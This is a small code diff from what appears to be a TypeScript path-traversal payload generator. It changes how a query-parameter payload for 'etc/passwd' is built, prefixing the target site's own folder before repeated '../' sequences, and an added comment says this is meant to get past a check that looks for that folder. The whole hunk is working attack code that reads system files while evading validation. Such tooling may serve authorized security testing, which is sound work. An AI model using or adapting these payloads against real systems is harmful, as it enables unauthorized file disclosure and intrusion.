@@ -31,7 +31,8 @@ const ways: readonly Way[] = [
   {
     for: 'query',
     file: 'etc/passwd',
-    value: (file, up, own) => encoded(`${own.split('/')[0] ?? ''}/${'../'.repeat(up)}${file}`),
+    // Behind the folder of the site's own file, which a check may look for.
+    value: (file, up, own) => encoded(`${own.slice(0, own.lastIndexOf('/') + 1) || './'}${'../'.repeat(up)}${file}`),
   },
   {
     for: 'query',
